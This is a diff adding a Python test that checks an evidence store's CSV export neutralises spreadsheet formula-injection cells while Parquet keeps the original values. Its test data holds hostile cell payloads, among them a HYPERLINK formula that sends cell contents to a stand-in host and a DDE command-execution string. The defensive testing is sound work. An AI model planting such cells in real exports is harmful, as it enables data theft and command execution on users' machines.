@@ -119,6 +119,33 @@ def test_csv_quotes_commas_quotes_and_newlines(local_store: EvidenceStore):
     assert artifacts[1].rows == 2 and local_store.stored_artifact(artifacts[1].path).rows == 2
 
 
+HOSTILE_CELLS = ('=HYPERLINK("https://evil.invalid/?q="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
+                 "-2+3", "\tTAB", "\r=1+1\nsecond line")
+
+
+def test_csv_neutralises_formula_cells_and_parquet_keeps_them(local_store: EvidenceStore):
+    n = len(HOSTILE_CELLS) + 1
+    df = pd.DataFrame({
+        "name": [*HOSTILE_CELLS, "Ada"],
+        "team": pd.Categorical(["=1+1"] * (n - 1) + ["Sales"]),  # dictionary-encoded text
+        "tag_names": [["@x"]] * n,  # a column written as its Python text
+        "delta": [-5] * n,  # numbers are not text: a negative number stays a number
+        "share": [-0.5] * n,
+    })
+    artifacts = local_store.write_table("users", DAY, df)
+    text = local_store.backend.get(artifacts[1].path).decode("utf-8")
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert [r["name"] for r in rows] == [f"'{v}" for v in HOSTILE_CELLS] + ["Ada"]
+    assert {r["team"] for r in rows} == {"'=1+1", "Sales"}
+    assert {r["delta"] for r in rows} == {"-5"} and {r["share"] for r in rows} == {"-0.5"}
+    formula_start = ("=", "+", "-", "@", "\t", "\r")
+    text_cells = [r[c] for r in rows for c in ("name", "team", "tag_names")]
+    assert not any(cell.startswith(formula_start) for cell in text_cells)
+    # The exact values stay in Parquet, and the manifest's count of CSV rows is unchanged.
+    assert local_store.read_table("users", DAY)["name"].tolist() == [*HOSTILE_CELLS, "Ada"]
+    assert artifacts[1].rows == n and local_store.stored_artifact(artifacts[1].path).rows == n
+
+
 def test_empty_frame_round_trips(store: EvidenceStore):
     df = users_frame().iloc[0:0]
     artifacts = store.write_table("users", DAY, df)
